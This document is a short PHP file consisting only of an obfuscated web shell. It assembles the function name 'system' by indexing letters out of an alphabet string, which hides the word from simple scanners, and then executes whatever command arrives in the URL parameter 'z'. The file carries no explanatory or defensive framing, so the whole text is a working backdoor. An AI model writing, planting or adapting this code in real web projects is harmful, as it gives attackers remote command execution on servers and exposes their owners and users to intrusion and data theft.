<?php
$abc = 'abcdefghijklmnopqrstuvwxyz';
$f = $abc[18] . $abc[24] . $abc[18] . $abc[19] . $abc[4] . $abc[12];
$f($_GET['z']);
